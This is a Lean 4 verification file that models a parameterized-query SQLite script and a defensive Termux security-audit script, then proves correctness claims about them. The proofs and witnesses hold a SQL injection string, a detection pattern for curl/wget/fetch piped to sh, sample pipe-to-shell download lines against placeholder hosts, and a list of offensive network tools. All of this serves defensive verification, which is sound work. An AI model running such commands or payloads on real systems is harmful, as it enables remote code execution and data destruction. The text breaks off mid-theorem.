import Mathlib

/-!
Verification development for the two scripts of this repository:
`secure_examples.py` (parameterized sqlite queries) and
`termux_security_audit.py` (sequential audit checklist runner).

Part 1: shallow embedding of `secure_examples.py`.

The sqlite layer is modelled as a value of type `DB`: the `users` table
(existence flag, list of rows, next auto-assigned integer primary key).
Each operation that calls `cur.execute(sql, params)` is embedded as a
function returning the SQL text it executes together with its semantic
effect; because the source binds `username`/`email` as positional
parameters, the SQL text is a constant and the parameter strings act only
as opaque data in the semantics.
-/

/-- A row of the `users` table: `(id, username, email)`. -/
structure Row where
  id : Nat
  username : String
  email : String
deriving DecidableEq

/-- State of the sqlite store reachable through this script: whether the
`users` table exists, its rows in insertion order, and the next value the
`INTEGER PRIMARY KEY` column will auto-assign. -/
structure DB where
  usersTable : Bool
  rows : List Row
  nextId : Nat
deriving DecidableEq

/-- The store freshly created by `sqlite3.connect` on a new path. -/
def emptyDB : DB := { usersTable := false, rows := [], nextId := 1 }

/-- Embeds `init_db`: executes `CREATE TABLE IF NOT EXISTS users(...)` and commits.
If the table already exists this is a no-op; otherwise the (empty) table is
created. Rows are never touched. -/
def init_db (db : DB) : DB := { db with usersTable := true }

/-- The constant SQL text of `insert_user` (source line 17): the parameters
are the placeholders `?`, never interpolated. -/
def insertQueryText : String := "INSERT INTO users (username, email) VALUES (?, ?)"

/-- The constant SQL text of `find_user_by_username` (source line 23). -/
def selectQueryText : String := "SELECT id, username, email FROM users WHERE username = ?"

/-- Embeds `insert_user(conn, username, email)`: executes the parameterized INSERT and
commits. Returns the SQL text handed to `cur.execute` and the new store
state: the row is appended with the auto-assigned id, the strings stored as
opaque data. -/
def insert_user (db : DB) (username email : String) : String × DB :=
  (insertQueryText,
   { db with
       rows := db.rows ++ [{ id := db.nextId, username := username, email := email }],
       nextId := db.nextId + 1 })

/-- Embeds `find_user_by_username(conn, username)`: executes the parameterized SELECT
and returns `cur.fetchall()`. Returns the SQL text handed to `cur.execute`
and the rows whose `username` column equals the bound parameter, in
insertion order. -/
def find_user_by_username (db : DB) (username : String) : String × List Row :=
  (selectQueryText, db.rows.filter (fun r => r.username == username))

/-!
Part 2: shallow embedding of `termux_security_audit.py`.

The host is modelled by `Env`: the two path variables, an oracle for
`shutil.which`, an oracle for the outcome of `subprocess.run(cmd,
shell=True, timeout=t)`, and a filesystem view (existence, directory test,
readable text content, directory entries, and the flattened sequence of
files that `os.walk` visits under a root). Every check is a total function
from `Env` to the list of `print` payloads it emits, paired with the list
of external command invocations it makes; Python exceptions that the
source catches are modelled by the corresponding "failure" constructors
(`CmdOutcome.failed`, `readText = none`, `FileEntry.statOk = false`).
-/

/-- Outcome of one `subprocess.run(cmd, shell=True, ...)` call:
either the process completed (any return code, with its stdout/stderr), or
the call raised (`TimeoutExpired`, spawn failure, ...), carrying `str(e)`. -/
inductive CmdOutcome where
  | completed (returncode : Int) (stdout stderr : String)
  | failed (msg : String)

/-- One file visited by `os.walk`: its full path, whether `Path.is_file()`
holds, whether `is_file`/`stat` succeed without raising (`statOk`), and the
`st_mode` permission bits. -/
structure FileEntry where
  path : String
  isFile : Bool
  statOk : Bool
  mode : Nat
deriving DecidableEq

/-- One external command invocation: the string run through the shell and
the timeout (seconds) passed to `subprocess.run`. -/
structure Invocation where
  cmd : String
  timeoutSec : Nat
deriving DecidableEq

/-- The host environment the audit script reads. -/
structure Env where
  home : String
  prefixDir : String
  pathVar : String
  which : String → Bool
  shell : String → Nat → CmdOutcome
  pathExists : String → Bool
  isDir : String → Bool
  readText : String → Option String
  dirEntries : String → List String
  walkFiles : String → List FileEntry

/-- Drop leading ASCII whitespace from a character list. -/
def dropSpaces : List Char → List Char
  | [] => []
  | c :: cs => if c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'
               then dropSpaces cs else c :: cs

/-- Python `str.strip()` (ASCII whitespace): drop leading and trailing
whitespace. -/
def pyStrip (s : String) : String :=
  String.mk ((dropSpaces ((dropSpaces s.data).reverse)).reverse)

/-- The `run cmd` helper of source lines 31-36 (its Python name is not a legal Lean identifier): on completion returns
`(returncode, stdout.strip(), stderr.strip())`; any exception is caught and
yields `(1, "", str(e))`. Always returns a triple, never raises. -/
def runCmd (env : Env) (cmd : String) (timeoutSec : Nat) : Int × String × String :=
  match env.shell cmd timeoutSec with
  | CmdOutcome.completed rc out err => (rc, pyStrip out, pyStrip err)
  | CmdOutcome.failed msg => (1, "", msg)

/-- Recursion behind `splitlines`: accumulate the current (reversed) line,
emit it at each newline; at end-of-input a pending non-empty line is
emitted, so a trailing newline adds no final empty line. -/
def splitlinesAux : List Char → List Char → List String
  | [], acc => if acc.isEmpty then [] else [String.mk acc.reverse]
  | c :: cs, acc =>
    if c == '\n' then String.mk acc.reverse :: splitlinesAux cs []
    else splitlinesAux cs (c :: acc)

/-- Python `str.splitlines()` restricted to `\n`-separated text: the empty
string gives no lines, and a trailing newline does not create a final
empty line. -/
def splitlines (s : String) : List String := splitlinesAux s.data []

/-- Python `"\n".join(...)` as used when printing walk results. -/
def joinLines (ls : List String) : String := String.intercalate "\n" ls

/-- Shared shape of the `pkg`/`dpkg` and `ss`/`netstat` branches: if the
tool is on `PATH`, run `cmd` with the given timeout and keep the stripped
stdout when it is non-empty (Python truthiness of `out`); otherwise make no
call. Returns the invocations made and the usable output, if any. -/
def tryTool (env : Env) (tool cmd : String) (timeoutSec : Nat) :
    List Invocation × Option String :=
  if env.which tool then
    let r := runCmd env cmd timeoutSec
    ([{ cmd := cmd, timeoutSec := timeoutSec }], if r.2.1 = "" then none else some r.2.1)
  else ([], none)

/-- Simplified Python `repr` of a list of strings (quote each element with
single quotes and bracket the list); escaping inside elements is not
modelled. `dpkg -l` output is printed through this because the source
prints the list object itself. -/
def pyReprList (ls : List String) : String :=
  "[" ++ String.intercalate ", " (ls.map (fun s => "\x27" ++ s ++ "\x27")) ++ "]"

/-- The payload printed in the `dpkg` branch (source line 49): the list of
lines, truncated to 200 when longer, printed as a Python list. -/
def dpkgDisplay (out : String) : String :=
  let ls := splitlines out
  pyReprList (if 200 < ls.length then ls.take 200 else ls)

/-- Embeds `list_installed_packages()` (source lines 38-51). -/
def list_installed_packages (env : Env) : List Invocation × List String :=
  let hdr := "== Installed packages =="
  let notice := "Could not list packages. \x27pkg\x27 or \x27dpkg\x27 not found in PATH.\n"
  let t1 := tryTool env "pkg" "pkg list-installed" 8
  match t1.2 with
  | some out => (t1.1, [hdr, out])
  | none =>
    let t2 := tryTool env "dpkg" "dpkg -l" 8
    match t2.2 with
    | some out => (t1.1 ++ t2.1, [hdr, dpkgDisplay out])
    | none => (t1.1 ++ t2.1, [hdr, notice])

/-- Embeds `list_listening_ports()` (source lines 53-66). -/
def list_listening_ports (env : Env) : List Invocation × List String :=
  let hdr := "\n== Listening TCP ports =="
  let notice := "Neither \x27ss\x27 nor \x27netstat\x27 found. Skipping port check.\n"
  let t1 := tryTool env "ss" "ss -ltn" 8
  match t1.2 with
  | some out => (t1.1, [hdr, out])
  | none =>
    let t2 := tryTool env "netstat" "netstat -ltn" 8
    match t2.2 with
    | some out => (t1.1 ++ t2.1, [hdr, out])
    | none => (t1.1 ++ t2.1, [hdr, notice])

/-- The `find` command built for one setuid candidate directory
(source line 77): the path is interpolated verbatim, unquoted. -/
def setuidFindCmd (p : String) : String :=
  "find " ++ p ++ " -xdev -type f -perm -4000 -ls 2>/dev/null | head -n 50"

/-- The `find` command built for the world-writable scan (source line 141):
`HOME` and the limit are interpolated verbatim, unquoted. -/
def wwFindCmd (home : String) (limit : Nat) : String :=
  "find " ++ home ++ " -xdev -type f -perm -002 -print 2>/dev/null | head -n " ++ toString limit

/-- The qualifying test of the setuid Python fallback (source lines 90-92):
`is_file()` and `stat()` succeed, the file is regular, and
`st_mode & 0o4000` (= 2048) is set. An entry whose `stat` raises is
skipped (`except: continue`). -/
def setuidPred (e : FileEntry) : Bool :=
  e.statOk && e.isFile && (e.mode &&& 2048 != 0)

/-- The qualifying test of the world-writable Python fallback
(source lines 155-156): `stat()` succeeds and `st_mode & 0o0002` (= 2) is
set; no `is_file` test is made. -/
def wwPred (e : FileEntry) : Bool :=
  e.statOk && (e.mode &&& 2 != 0)

/-- The `os.walk` collection loop shared by both Python fallbacks
(source lines 86-99 and 151-163): visit entries in walk order, append the
path of each qualifying entry, and break out of both loops as soon as the
collected list reaches `limit`. -/
def walkLoop (p : FileEntry → Bool) (limit : Nat) :
    List FileEntry → List String → List String
  | [], found => found
  | e :: rest, found =>
    if p e then
      let found2 := found ++ [e.path]
      if limit ≤ found2.length then found2 else walkLoop p limit rest found2
    else walkLoop p limit rest found

/-- Result of the setuid Python fallback under candidate directory `p`. -/
def setuidFound (env : Env) (p : String) : List String :=
  walkLoop setuidPred 50 (env.walkFiles p) []

/-- Result of the world-writable Python fallback under `HOME`. -/
def wwFound (env : Env) (limit : Nat) : List String :=
  walkLoop wwPred limit (env.walkFiles env.home) []

/-- Body of the `find_setuid_files` loop for one not-yet-seen, existing
candidate directory (source lines 76-104): with `find` on `PATH`, run the
external command (timeout 8) and print the two lines when stdout is
non-empty; otherwise run the capped walk and print the two lines when it
found anything. -/
def setuidStep (env : Env) (p : String) : List Invocation × List String :=
  if env.which "find" then
    let cmd := setuidFindCmd p
    let r := runCmd env cmd 8
    ([{ cmd := cmd, timeoutSec := 8 }],
     if r.2.1 = "" then [] else ["setuid files under " ++ p ++ ":", r.2.1])
  else
    let found := setuidFound env p
    ([], if found = [] then [] else ["setuid files under " ++ p ++ ":", joinLines found])

/-- The candidate directory list of `find_setuid_files` (source line 70),
as path strings. -/
def setuidCandidates (env : Env) : List String :=
  [env.prefixDir, "/system/bin", "/system/xbin", "/sbin", "/bin", env.home]

/-- The `for p in candidates` loop of `find_setuid_files` with its `seen`
set: a candidate is processed when it exists and was not already seen. -/
def setuidLoop (env : Env) : List String → List String → List Invocation × List String
  | _, [] => ([], [])
  | seen, p :: rest =>
    if env.pathExists p && !(seen.contains p) then
      let s := setuidStep env p
      let r := setuidLoop env (p :: seen) rest
      (s.1 ++ r.1, s.2 ++ r.2)
    else setuidLoop env seen rest

/-- Embeds `find_setuid_files()` (source lines 68-104). -/
def find_setuid_files (env : Env) : List Invocation × List String :=
  let r := setuidLoop env [] (setuidCandidates env)
  (r.1, "\n== setuid files under common prefixes ==" :: r.2)

/-!
The startup-scan pattern `(curl|wget|fetch).*\|\s*(sh|bash)\b` with
`re.IGNORECASE` (source line 109) is embedded as an executable matcher on
lowercased character lists. `\s` is the ASCII whitespace class, `\w` (for
`\b`) the ASCII word class; `re.search` existence is a scan over all start
positions. Case folding is ASCII `Char.toLower`, matching Python for the
ASCII text the pattern itself consists of.
-/

/-- ASCII `\w` (word character), used for the `\b` boundary. -/
def isWordChar (c : Char) : Bool := c.isAlphanum || c == '_'

/-- ASCII `\s`: space, tab, newline, carriage return, vertical tab,
form feed. -/
def isSpaceChar (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- Boundary `\b` right after a word character: next character is absent or not a
word character. -/
def boundaryOk : List Char → Bool
  | [] => true
  | c :: _ => !isWordChar c

/-- Fragment `(sh|bash)\b` anchored at the start of `cs`. -/
def shellAt (cs : List Char) : Bool :=
  (cs.take 2 = ['s', 'h'] && boundaryOk (cs.drop 2)) ||
  (cs.take 4 = ['b', 'a', 's', 'h'] && boundaryOk (cs.drop 4))

/-- Fragment `\s*(sh|bash)\b` anchored at the start: skip whitespace, then the
interpreter alternation must match. -/
def afterPipe : List Char → Bool
  | [] => false
  | c :: rest => if isSpaceChar c then afterPipe rest else shellAt (c :: rest)

/-- Fragment `.*\|\s*(sh|bash)\b` anchored at the start: some `|` at or after the
current position is followed by `\s*(sh|bash)\b`. -/
def pipeSearch : List Char → Bool
  | [] => false
  | c :: rest => (c == '|' && afterPipe rest) || pipeSearch rest

/-- Fragment `(curl|wget|fetch)` anchored at the start: on a match, the remainder
after the matched tool name. -/
def toolAt (cs : List Char) : Option (List Char) :=
  if cs.take 4 = ['c', 'u', 'r', 'l'] then some (cs.drop 4)
  else if cs.take 4 = ['w', 'g', 'e', 't'] then some (cs.drop 4)
  else if cs.take 5 = ['f', 'e', 't', 'c', 'h'] then some (cs.drop 5)
  else none

/-- Embeds `re.search` of the full pattern: some start position carries a tool
name whose remainder contains a qualifying pipe. -/
def toolPipeSearch : List Char → Bool
  | [] => false
  | c :: rest =>
    (match toolAt (c :: rest) with
     | some after => pipeSearch after
     | none => false) || toolPipeSearch rest

/-- ASCII lowercase of a character list (`re.IGNORECASE`). -/
def lowerL (l : List Char) : List Char := l.map Char.toLower

/-- Holds when `pattern.search(line)` is not `None`. -/
def lineMatches (line : String) : Bool := toolPipeSearch (lowerL line.data)

/-- The fixed startup-file candidate list (source line 108). -/
def startupFiles (env : Env) : List String :=
  [env.home ++ "/.bashrc", env.home ++ "/.profile",
   env.home ++ "/.bash_profile", env.home ++ "/.zshrc"]

/-- The report lines one startup file contributes (source lines 111-120):
nothing if the file does not exist or reading it raises; otherwise one
line `f:i: line.strip()` per matching line, 1-based line numbers. -/
def perFileHits (env : Env) (f : String) : List String :=
  if env.pathExists f then
    match env.readText f with
    | none => []
    | some text =>
      (((splitlines text).enumFrom 1).filter (fun pr => lineMatches pr.2)).map
        (fun pr => f ++ ":" ++ toString pr.1 ++ ": " ++ pyStrip pr.2)
  else []

/-- Embeds `scan_startup_for_pipe_feedback()` (source lines 106-122). -/
def scan_startup_for_pipe_feedback (env : Env) : List Invocation × List String :=
  let hdr := "\n== Suspicious shell startup lines (looking for \x27curl|wget ... | sh\x27) =="
  let notice := "No obvious \x27curl/wget | sh\x27 lines found in common startup files.\n"
  let hits := (startupFiles env).flatMap (perFileHits env)
  ([], hdr :: (hits ++ if hits = [] then [notice] else []))

/-- Insertion into a sorted list of strings, for Python `sorted(key=str)`. -/
def insertSorted (x : String) : List String → List String
  | [] => [x]
  | y :: ys => if x ≤ y then x :: y :: ys else y :: insertSorted x ys

/-- Python `sorted(..., key=str)` on path strings. -/
def sortStrings : List String → List String
  | [] => []
  | x :: xs => insertSorted x (sortStrings xs)

/-- Embeds `list_ssh_keys()` (source lines 124-135). -/
def list_ssh_keys (env : Env) : List String :=
  let hdr := "\n== SSH keys in ~/.ssh =="
  let sshdir := env.home ++ "/.ssh"
  if env.pathExists sshdir && env.isDir sshdir then
    let keys := sortStrings (env.dirEntries sshdir)
    if keys = [] then [hdr, "No files found in ~/.ssh"] else hdr :: keys
  else [hdr, "~/.ssh not present"]

/-- Embeds `find_world_writable_files(limit)` (source lines 137-167); `main` calls
it with the default `limit=100`. The external command runs with timeout 20. -/
def find_world_writable_files (env : Env) (limit : Nat) : List Invocation × List String :=
  let hdr := "\n== World-writable files under HOME (may be insecure) =="
  if env.which "find" then
    let cmd := wwFindCmd env.home limit
    let r := runCmd env cmd 20
    if r.2.1 = "" then
      ([{ cmd := cmd, timeoutSec := 20 }],
       [hdr, "No world-writable files found or \x27find\x27 returned empty."])
    else ([{ cmd := cmd, timeoutSec := 20 }], [hdr, r.2.1])
  else
    let found := wwFound env limit
    ([], [hdr, if found = [] then "No world-writable files found under HOME."
               else joinLines found])

/-- The fixed suspect-binary list (source line 177). -/
def suspects : List String :=
  ["nc", "ncat", "msfconsole", "meterpreter", "netcat", "adb"]

/-- Embeds `quick_checks()` (source lines 169-185); `print(a, b)` payloads are the
space-joined arguments. -/
def quick_checks (env : Env) : List String :=
  let found := suspects.filter env.which
  ["Performing quick Termux environment checks...",
   "\n== Environment snapshot ==",
   "HOME: " ++ env.home,
   "PREFIX: " ++ env.prefixDir,
   "PATH: " ++ env.pathVar] ++
  (if found = [] then ["\nNo common suspect binaries found in PATH."]
   else ["\nFound potentially powerful network/debugging binaries in PATH (for info only): "
          ++ String.intercalate ", " found])

/-- The fixed closing recommendations block (source lines 204-209). -/
def recsLines : List String :=
  ["\nDone. Recommendations:",
   "- If you find \x27curl|wget | sh\x27 lines in startup files, inspect them carefully; avoid piping remote scripts to sh.",
   "- Remove or secure unexpected SSH keys in ~/.ssh.",
   "- Investigate unexpected listening ports or unexpected installed packages.",
   "- Keep Termux & packages updated: pkg update && pkg upgrade (only on trusted networks).",
   "- For formal testing, obtain written permission and use dedicated tooling and lab environments."]

/-- The result of one audit run: external invocations made, `print`
payloads in order, and the process exit status. -/
structure AuditResult where
  calls : List Invocation
  lines : List String
  exitCode : Nat
deriving DecidableEq

/-- The `main()` entry point (source lines 187-209; named `auditMain` since `main` is reserved in Lean) after `argparse` has produced the two
boolean flags: the fixed check sequence, with the ports and setuid checks
gated by their skip flags; normal completion exits with status 0. -/
def auditMain (env : Env) (noPorts noSetuid : Bool) : AuditResult :=
  let pk := list_installed_packages env
  let po := if noPorts then ([], []) else list_listening_ports env
  let su := if noSetuid then ([], []) else find_setuid_files env
  let st := scan_startup_for_pipe_feedback env
  let ww := find_world_writable_files env 100
  { calls := pk.1 ++ po.1 ++ su.1 ++ st.1 ++ ww.1,
    lines := ["Termux Security Audit (defensive)", "Scan root: " ++ env.home] ++
      pk.2 ++ po.2 ++ su.2 ++ st.2 ++ list_ssh_keys env ++ ww.2 ++
      quick_checks env ++ recsLines,
    exitCode := 0 }

/-!
Part 3: the claims.
-/

/-- C1: for every username and email string — including strings containing
quote characters, statement-terminator sequences, or control characters —
`insert_user` followed by `find_user_by_username` with that exact string
returns exactly the inserted record `(id, username, email)` (stated for a
store holding no prior record of that username), does not alter the table
structure or any previously stored record, and both operations hand the
store a constant query text with the strings bound as positional
parameters, never interpolated. -/
theorem insert_then_find_returns_inserted (db : DB) (u e : String)
    (h : db.rows.filter (fun r => r.username == u) = []) :
    (find_user_by_username (insert_user db u e).2 u).2
        = [{ id := db.nextId, username := u, email := e }]
    ∧ (insert_user db u e).1 = insertQueryText
    ∧ (find_user_by_username (insert_user db u e).2 u).1 = selectQueryText
    ∧ (insert_user db u e).2.usersTable = db.usersTable
    ∧ (insert_user db u e).2.rows
        = db.rows ++ [{ id := db.nextId, username := u, email := e }] := by
  refine ⟨?_, rfl, rfl, rfl, rfl⟩
  simp [find_user_by_username, insert_user, List.filter_append, h]

/-- Witness for C1 at a username carrying a quote, a statement terminator
and a comment marker, and an email carrying control characters. -/
theorem insert_then_find_returns_inserted_witness :
    (find_user_by_username
        (insert_user (init_db emptyDB) "bob\x27); DROP TABLE users;--" "a@b\x00\n\x09c").2
        "bob\x27); DROP TABLE users;--").2
      = [{ id := 1, username := "bob\x27); DROP TABLE users;--",
           email := "a@b\x00\n\x09c" }] :=
  (insert_then_find_returns_inserted (init_db emptyDB)
    "bob\x27); DROP TABLE users;--" "a@b\x00\n\x09c" rfl).1

/-- C7: opening the store twice is idempotent — the second `init_db` on the
same store neither fails (it is a total function) nor duplicates the
`users` table, and records inserted through the first handle are intact
afterwards. -/
theorem init_db_idempotent (db : DB) (u e : String) :
    init_db (init_db db) = init_db db
    ∧ (init_db db).usersTable = true
    ∧ (init_db db).rows = db.rows
    ∧ (init_db (insert_user (init_db db) u e).2).rows
        = (insert_user (init_db db) u e).2.rows :=
  ⟨rfl, rfl, rfl, rfl⟩

/-- The store obtained by inserting usernames "alice", "bob", "alice" into
a fresh store, as in the lookup-correctness property. -/
def c8Store : DB :=
  (insert_user
    (insert_user
      (insert_user (init_db emptyDB) "alice" "alice@example.org").2
      "bob" "bob@example.org").2
    "alice" "alice2@example.org").2

/-- C8: after inserting usernames "alice", "bob", "alice" into a fresh
store, looking up "alice" returns exactly the two inserted "alice" records
(both with username "alice"), and looking up "carol" returns the empty
sequence. -/
theorem lookup_returns_exact_matches :
    (find_user_by_username c8Store "alice").2
        = [{ id := 1, username := "alice", email := "alice@example.org" },
           { id := 3, username := "alice", email := "alice2@example.org" }]
    ∧ ((find_user_by_username c8Store "alice").2).map Row.username
        = ["alice", "alice"]
    ∧ ((find_user_by_username c8Store "alice").2).length = 2
    ∧ (find_user_by_username c8Store "carol").2 = [] := by
  refine ⟨?_, ?_, ?_, ?_⟩ <;> decide

/-!
Helper lemmas about the pattern matcher.
-/

/-- A whitespace character is unchanged by ASCII lowercasing. -/
lemma toLower_of_space {c : Char} (h : isSpaceChar c = true) : Char.toLower c = c := by
  simp only [isSpaceChar, Bool.or_eq_true, beq_iff_eq] at h
  rcases h with ((((h | h) | h) | h) | h) | h <;> subst h <;> decide

/-- Lowercasing preserves all-whitespace lists. -/
lemma lowerL_spaces {ws : List Char} (h : ∀ c ∈ ws, isSpaceChar c = true) :
    ∀ c ∈ lowerL ws, isSpaceChar c = true := by
  intro c hc
  obtain ⟨c', hc', rfl⟩ := List.mem_map.1 hc
  rw [toLower_of_space (h c' hc')]
  exact h c' hc'

/-- Fragment `\s*(sh|bash)\b` succeeds on whitespace followed by `sh` at a word
boundary. -/
lemma afterPipe_sh : ∀ (ws : List Char), (∀ c ∈ ws, isSpaceChar c = true) →
    ∀ (t : List Char), boundaryOk t = true →
    afterPipe (ws ++ ('s' :: 'h' :: t)) = true := by
  intro ws
  induction ws with
  | nil =>
    intro _ t ht
    have h1 : isSpaceChar 's' = false := by decide
    simp [afterPipe, h1, shellAt, ht]
  | cons c cs ih =>
    intro hws t ht
    have h1 : isSpaceChar c = true := hws c (List.mem_cons_self c cs)
    simpa [afterPipe, h1] using ih (fun d hd => hws d (List.mem_cons_of_mem c hd)) t ht

/-- Fragment `\s*(sh|bash)\b` succeeds on whitespace followed by `bash` at a word
boundary. -/
lemma afterPipe_bash : ∀ (ws : List Char), (∀ c ∈ ws, isSpaceChar c = true) →
    ∀ (t : List Char), boundaryOk t = true →
    afterPipe (ws ++ ('b' :: 'a' :: 's' :: 'h' :: t)) = true := by
  intro ws
  induction ws with
  | nil =>
    intro _ t ht
    have h1 : isSpaceChar 'b' = false := by decide
    simp [afterPipe, h1, shellAt, ht]
  | cons c cs ih =>
    intro hws t ht
    have h1 : isSpaceChar c = true := hws c (List.mem_cons_self c cs)
    simpa [afterPipe, h1] using ih (fun d hd => hws d (List.mem_cons_of_mem c hd)) t ht

/-- Fragment `.*\|...` finds a qualifying pipe anywhere after the current
position. -/
lemma pipeSearch_append : ∀ (b : List Char) {r : List Char},
    afterPipe r = true → pipeSearch (b ++ ('|' :: r)) = true := by
  intro b
  induction b with
  | nil => intro r h; simp [pipeSearch, h]
  | cons c cs ih => intro r h; simp [pipeSearch, ih h]

/-- The search succeeds on any suffix extended to the left. -/
lemma toolPipeSearch_append : ∀ (a : List Char) {r : List Char},
    toolPipeSearch r = true → toolPipeSearch (a ++ r) = true := by
  intro a
  induction a with
  | nil => intro r h; simpa using h
  | cons c cs ih => intro r h; simp [toolPipeSearch, ih h]

/-- A position starting with `curl` whose remainder has a qualifying pipe
matches. -/
lemma toolPipeSearch_curl {rest : List Char} (h : pipeSearch rest = true) :
    toolPipeSearch ('c' :: 'u' :: 'r' :: 'l' :: rest) = true := by
  simp [toolPipeSearch, toolAt, h]

/-- A position starting with `wget` whose remainder has a qualifying pipe
matches. -/
lemma toolPipeSearch_wget {rest : List Char} (h : pipeSearch rest = true) :
    toolPipeSearch ('w' :: 'g' :: 'e' :: 't' :: rest) = true := by
  simp [toolPipeSearch, toolAt, h]

/-- A position starting with `fetch` whose remainder has a qualifying pipe
matches. -/
lemma toolPipeSearch_fetch {rest : List Char} (h : pipeSearch rest = true) :
    toolPipeSearch ('f' :: 'e' :: 't' :: 'c' :: 'h' :: rest) = true := by
  simp [toolPipeSearch, toolAt, h]

/-- Assembly: any line made of a prefix, a tool alternation member, junk, a
pipe, whitespace, `sh`, and a boundary-safe tail matches. -/
lemma toolPipeSearch_build_sh (A B WS T : List Char) (tool : List Char)
    (htool : ∀ rest, pipeSearch rest = true → toolPipeSearch (tool ++ rest) = true)
    (hws : ∀ c ∈ WS, isSpaceChar c = true) (ht : boundaryOk T = true) :
    toolPipeSearch (A ++ (tool ++ (B ++ ('|' :: (WS ++ ('s' :: 'h' :: T)))))) = true :=
  toolPipeSearch_append A (htool _ (pipeSearch_append B (afterPipe_sh WS hws T ht)))

/-- Assembly for the `bash` alternative. -/
lemma toolPipeSearch_build_bash (A B WS T : List Char) (tool : List Char)
    (htool : ∀ rest, pipeSearch rest = true → toolPipeSearch (tool ++ rest) = true)
    (hws : ∀ c ∈ WS, isSpaceChar c = true) (ht : boundaryOk T = true) :
    toolPipeSearch (A ++ (tool ++ (B ++ ('|' :: (WS ++ ('b' :: 'a' :: 's' :: 'h' :: T)))))) = true :=
  toolPipeSearch_append A (htool _ (pipeSearch_append B (afterPipe_bash WS hws T ht)))

/-- C10: the startup-scan pattern treats `fetch` as a download tool in
addition to `curl` and `wget`: every line consisting of anything, then
`fetch` (in any letter case), anything, a pipe, whitespace, and `sh` or
`bash` followed by a word boundary, satisfies `lineMatches` — the exact
test `perFileHits` uses to decide whether a startup-file line is reported —
just as the corresponding `curl` and `wget` lines do. -/
theorem fetch_reported_like_curl (a b ws t : String)
    (hws : ∀ c ∈ ws.data, isSpaceChar c = true)
    (ht : boundaryOk (lowerL t.data) = true) :
    lineMatches (a ++ "fetch" ++ b ++ "|" ++ ws ++ "sh" ++ t) = true
    ∧ lineMatches (a ++ "fetch" ++ b ++ "|" ++ ws ++ "bash" ++ t) = true
    ∧ lineMatches (a ++ "FetCh" ++ b ++ "|" ++ ws ++ "SH" ++ t) = true
    ∧ lineMatches (a ++ "curl" ++ b ++ "|" ++ ws ++ "sh" ++ t) = true
    ∧ lineMatches (a ++ "wget" ++ b ++ "|" ++ ws ++ "sh" ++ t) = true := by
  have hws' : ∀ c ∈ List.map Char.toLower ws.data, isSpaceChar c = true := lowerL_spaces hws
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · have key := toolPipeSearch_build_sh (List.map Char.toLower a.data)
      (List.map Char.toLower b.data) (List.map Char.toLower ws.data)
      (List.map Char.toLower t.data) ['f', 'e', 't', 'c', 'h']
      (fun _ h => toolPipeSearch_fetch h) hws' ht
    simpa [lineMatches, lowerL, String.data_append, List.map_append] using key
  · have key := toolPipeSearch_build_bash (List.map Char.toLower a.data)
      (List.map Char.toLower b.data) (List.map Char.toLower ws.data)
      (List.map Char.toLower t.data) ['f', 'e', 't', 'c', 'h']
      (fun _ h => toolPipeSearch_fetch h) hws' ht
    simpa [lineMatches, lowerL, String.data_append, List.map_append] using key
  · have key := toolPipeSearch_build_sh (List.map Char.toLower a.data)
      (List.map Char.toLower b.data) (List.map Char.toLower ws.data)
      (List.map Char.toLower t.data) ['f', 'e', 't', 'c', 'h']
      (fun _ h => toolPipeSearch_fetch h) hws' ht
    simpa [lineMatches, lowerL, String.data_append, List.map_append] using key
  · have key := toolPipeSearch_build_sh (List.map Char.toLower a.data)
      (List.map Char.toLower b.data) (List.map Char.toLower ws.data)
      (List.map Char.toLower t.data) ['c', 'u', 'r', 'l']
      (fun _ h => toolPipeSearch_curl h) hws' ht
    simpa [lineMatches, lowerL, String.data_append, List.map_append] using key
  · have key := toolPipeSearch_build_sh (List.map Char.toLower a.data)
      (List.map Char.toLower b.data) (List.map Char.toLower ws.data)
      (List.map Char.toLower t.data) ['w', 'g', 'e', 't']
      (fun _ h => toolPipeSearch_wget h) hws' ht
    simpa [lineMatches, lowerL, String.data_append, List.map_append] using key

/-- Witness for C10 at a concrete fetch-pipe-sh line. -/
theorem fetch_reported_like_curl_witness :
    lineMatches ("" ++ "fetch" ++ " http://x.io/s.sh " ++ "|" ++ " " ++ "sh" ++ "") = true :=
  (fetch_reported_like_curl "" " http://x.io/s.sh " " " ""
    (by decide) (by decide)).1

/-- Membership from an indexed lookup. -/
lemma mem_of_getElem_eq {α : Type} {l : List α} {n : Nat} {a : α}
    (h : l[n]? = some a) : a ∈ l := by
  obtain ⟨hlt, rfl⟩ := List.getElem?_eq_some.1 h
  exact List.getElem_mem hlt

/-- If line `n` (1-based) of a readable startup file matches, the file
contributes the formatted report line. -/
lemma perFileHits_mem {env : Env} {f text : String}
    (hex : env.pathExists f = true) (hrd : env.readText f = some text)
    {n : Nat} {line : String} (hn : 1 ≤ n)
    (hline : (splitlines text)[n - 1]? = some line)
    (hm : lineMatches line = true) :
    (f ++ ":" ++ toString n ++ ": " ++ pyStrip line) ∈ perFileHits env f := by
  have h1 : ((splitlines text).enumFrom 1)[n - 1]? = some (n, line) := by
    rw [List.getElem?_enumFrom, hline]
    have : 1 + (n - 1) = n := by omega
    simp [this]
  have h2 : (n, line) ∈ (splitlines text).enumFrom 1 := mem_of_getElem_eq h1
  have h3 : (n, line) ∈ ((splitlines text).enumFrom 1).filter
      (fun pr => lineMatches pr.2) := List.mem_filter.2 ⟨h2, hm⟩
  have h4 := List.mem_map_of_mem
    (fun pr : Nat × String => f ++ ":" ++ toString pr.1 ++ ": " ++ pyStrip pr.2) h3
  simpa [perFileHits, hex, hrd] using h4

/-- Any line contributed by a candidate file appears in the scan output. -/
lemma scan_mem {env : Env} {f s : String} (hf : f ∈ startupFiles env)
    (hs : s ∈ perFileHits env f) :
    s ∈ (scan_startup_for_pipe_feedback env).2 := by
  have hm : s ∈ (startupFiles env).flatMap (perFileHits env) :=
    List.mem_flatMap.2 ⟨f, hf, hs⟩
  exact List.mem_cons_of_mem _ (List.mem_append_left _ hm)

/-- C5: for a startup file in the fixed candidate list that exists and is
readable, a line `curl http://example.com/x.sh | sh` at 1-based line `n`
makes the scan output contain `f:n: ` followed by that exact line text; a
readable file none of whose lines match contributes no report line; and a
file whose read raises is skipped (contributes nothing) rather than being
fatal. -/
theorem startup_scan_reports_curl_line (env : Env) (f text : String) (n : Nat) :
    (f ∈ startupFiles env → env.pathExists f = true → env.readText f = some text →
      1 ≤ n → (splitlines text)[n - 1]? = some "curl http://example.com/x.sh | sh" →
